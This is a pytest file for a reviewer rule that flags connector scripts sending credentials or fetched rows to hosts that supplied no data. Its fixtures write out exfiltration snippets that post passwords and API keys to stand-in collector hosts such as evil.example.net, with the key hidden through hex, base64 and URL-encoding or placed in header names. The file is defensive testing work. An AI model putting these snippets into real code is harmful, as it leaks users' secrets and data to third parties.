"""data-exfiltration: a secret value or received data sent to a site that supplied no data."""

import base64

import pytest

from tests.review.dataflow_cases import HONEST, KEY, ROWS, ROWS_JSON, finding, flow_review, honest, rules, sample

RULE = "data-exfiltration"
API_ROWS = "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n"
COLLECTOR = ("api.example.com", "telemetry.example-collector.net")


def test_it_reports_the_password_posted_to_a_declared_collector_host_by_field_name():
    result = flow_review(
        "httprequest.post('https://telemetry.example-collector.net/v1', metadata.account.password);\n" + API_ROWS,
        [sample("https://api.example.com/rows", ROWS), sample("https://telemetry.example-collector.net/v1", "{}", "POST")],
        hosts=COLLECTOR, auth={"method": "username_password"},
        account={"username": "tester", "password": "pw-sample-123"})
    found = finding(result, RULE)
    assert found.severity == "error" and found.phase == "security" and result.verdict == "fail"
    assert found.line == 6 and found.file == "processdata.js"
    assert "the account's password (metadata.account.password) in the body" in found.message
    assert "telemetry.example-collector.net (site example-collector.net), which supplied no data" in found.message
    assert "pw-sample-123" not in found.message
    assert "external-request" not in rules(result)  # the host is declared: only the data flow catches it


def test_it_reports_the_key_url_encoded_in_the_query_of_a_sink():
    result = flow_review(
        API_ROWS + "httprequest.get('https://stats.example-collector.net/p?k=' + encodeURIComponent(metadata.account.apikey + '/x'));\n",
        [sample("https://api.example.com/rows", ROWS)], hosts=("api.example.com", "stats.example-collector.net"))
    assert "apikey (metadata.account.apikey) in the URL's query" in finding(result, RULE).message


def test_it_reports_basic_credentials_in_a_header_to_a_sink():
    result = flow_review(
        API_ROWS + "httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode("
                   "metadata.account.username + ':' + metadata.account.password));\n"
                   "httprequest.get('https://telemetry.example-collector.net/hello');\n",
        [sample("https://api.example.com/rows", ROWS)], hosts=COLLECTOR, auth={"method": "username_password"},
        account={"username": "tester", "password": "pw-sample-123"})
    assert "password (metadata.account.password) in the authorization header" in finding(result, RULE).message


def test_it_reports_the_key_in_hex_in_the_path_of_a_sink():
    to_hex = ("var hex = ''; for (var i = 0; i < k.length; i++) { hex += k.charCodeAt(i).toString(16); }\n")
    result = flow_review(
        API_ROWS + "var k = metadata.account.apikey;\n" + to_hex +
        "httprequest.get('https://c.example-collector.net/' + hex + '.gif');\n",
        [sample("https://api.example.com/rows", ROWS)], hosts=("api.example.com", "c.example-collector.net"))
    assert "apikey (metadata.account.apikey) in the path" in finding(result, RULE).message


def test_it_reports_received_rows_posted_to_a_sink_naming_where_they_came_from():
    result = flow_review(
        "var rows = JSON.parse(httprequest.get('https://api.example.com/rows'));\naddRows(rows);\n"
        "httprequest.post('https://telemetry.example-collector.net/rows', JSON.stringify(rows));\n",
        [sample("https://api.example.com/rows", ROWS)], hosts=COLLECTOR)
    message = finding(result, RULE).message
    assert "data received from api.example.com in the body of POST to telemetry.example-collector.net" in message
    assert ROWS[0]["id"] not in message


def test_it_reports_received_data_base64_encoded_to_a_sink():
    result = flow_review(
        "var rows = JSON.parse(httprequest.get('https://api.example.com/rows'));\naddRows(rows);\n"
        "httprequest.get('https://telemetry.example-collector.net/x?d=' + DOMO.b64EncodeUnicode(rows[3].name));\n",
        [sample("https://api.example.com/rows", ROWS)], hosts=COLLECTOR)
    assert "data received from api.example.com in the URL's query" in finding(result, RULE).message


def test_it_reports_received_data_written_to_an_s3_bucket_that_supplied_nothing():
    result = flow_review(
        "var rows = JSON.parse(httprequest.get('https://api.example.com/rows'));\naddRows(rows);\n"
        "aws.createClient('us-east-1', 'AKIAEXAMPLE', 'not-the-account-secret');\n"
        "aws.put('drop-bucket/out', 'rows.json', JSON.stringify(rows));\n",
        [sample("https://api.example.com/rows", ROWS)], hosts=("api.example.com", "s3.us-east-1.amazonaws.com"))
    assert "to s3.us-east-1.amazonaws.com" in finding(result, RULE).message


def test_it_reports_the_secret_sent_to_an_undeclared_host_beside_external_request():
    result = flow_review(API_ROWS + "httprequest.post('https://evil.example.net/c', 'k=' + metadata.account.apikey);\n",
                         [sample("https://api.example.com/rows", ROWS)])
    assert {"external-request", RULE} <= rules(result)
    assert "apikey (metadata.account.apikey) in the body" in finding(result, RULE).message


def test_it_fails_closed_when_a_run_sends_more_than_the_review_can_follow():
    result = flow_review(API_ROWS + "for (var i = 0; i < 2100; i++) { httprequest.get('https://api.example.com/rows?i=' + i); }\n",
                         [{"method": "GET", "url_prefix": "https://api.example.com/rows", "status": 200, "body": ROWS_JSON}])
    assert "cannot be checked; the review fails closed" in finding(result, RULE).message


@pytest.mark.parametrize("name", sorted(HONEST))
def test_honest_near_misses_send_nothing_to_a_sink(name):
    assert RULE not in rules(honest(name))


def test_a_secret_sent_to_a_site_whose_data_reached_the_rows_is_not_exfiltration():
    result = flow_review(
        "httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n" + API_ROWS,
        [sample("https://api.example.com/rows", ROWS)])
    assert RULE not in rules(result)
    assert result.sites == [{"site": "example.com", "hosts": ["api.example.com"], "supplied_data": True,
                             "credentials": ["apikey"], "data_from": []}]


def test_the_samples_secret_never_shows_in_findings_sites_or_logs():
    result = flow_review("DOMO.log('key ' + metadata.account.apikey + ' ' + DOMO.b64EncodeUnicode(metadata.account.apikey));\n"
                         "httprequest.post('https://telemetry.example-collector.net/v1', metadata.account.apikey);\n"
                         + API_ROWS, [sample("https://api.example.com/rows", ROWS)], hosts=COLLECTOR)
    shown = repr(result.to_dict()) + repr(result.for_people())
    assert KEY not in shown and base64.b64encode(KEY.encode()).decode().rstrip("=") not in shown


def test_an_api_whose_values_are_all_short_is_still_the_source_of_the_rows():
    short = [{"id": f"r{i}", "n": i} for i in range(40)]
    result = flow_review("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
                         "JSON.parse(httprequest.get('https://api.example.com/rows')).forEach(function (r) {\n"
                         "  datagrid.addCell(r.id); datagrid.addCell(r.n); datagrid.endRow(); });\n",
                         [sample("https://api.example.com/rows", short)])
    assert RULE not in rules(result)


def test_a_collector_whose_answer_lands_in_a_row_is_a_source_but_the_key_sent_there_fails():
    result = flow_review("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n" + API_ROWS +
                         "var r = JSON.parse(httprequest.post('https://telemetry.example-collector.net/v1',"
                         " metadata.account.apikey));\ndatagrid.addCell(r.status); datagrid.addCell('x'); datagrid.endRow();\n",
                         [sample("https://api.example.com/rows", ROWS),
                          sample("https://telemetry.example-collector.net/v1", {"status": "ok"}, "POST")], hosts=COLLECTOR)
    # Its answer reaches the rows, so it is a source (bundle-format.md); the key is not
    # its to receive: credential-spread, an error, not a warning any more.
    spread = finding(result, "credential-spread")
    assert spread.severity == "error" and "site example-collector.net" in spread.message and result.verdict == "fail"


@pytest.mark.parametrize("send", [
    "httprequest.addHeader(metadata.account.apikey, '1');\nhttprequest.get('https://telemetry.example-collector.net/a');\n",
    "var k = metadata.account.apikey, esc = '';\n"
    "for (var i = 0; i < k.length; i++) { esc += '\\\\u' + ('000' + k.charCodeAt(i).toString(16)).slice(-4); }\n"
    "httprequest.post('https://telemetry.example-collector.net/a', '{\"v\": \"' + esc + '\"}');\n",
    "httprequest.post('https://telemetry.example-collector.net/a', encodeURIComponent(btoa(metadata.account.apikey)));\n"
    .replace("btoa", "DOMO.b64EncodeUnicode"),
    "httprequest.get('https://telemetry.example-collector.net/a#' + metadata.account.apikey);\n",
])
def test_it_follows_the_key_through_header_names_hand_escapes_double_encoding_and_fragments(send):
    result = flow_review(API_ROWS + send, [sample("https://api.example.com/rows", ROWS)], hosts=COLLECTOR)
    assert "apikey (metadata.account.apikey)" in finding(result, RULE).message


def test_a_huge_host_is_cut_in_the_message_and_the_sites_table():
    result = flow_review(API_ROWS + "httprequest.post('https://' + new Array(3000).join('a') + '.example-collector.net/x',"
                         " metadata.account.apikey);\n", [sample("https://api.example.com/rows", ROWS)])
    assert len(finding(result, RULE).message) < 1000
    assert all(len(h) <= 255 for s in result.sites for h in s["hosts"])
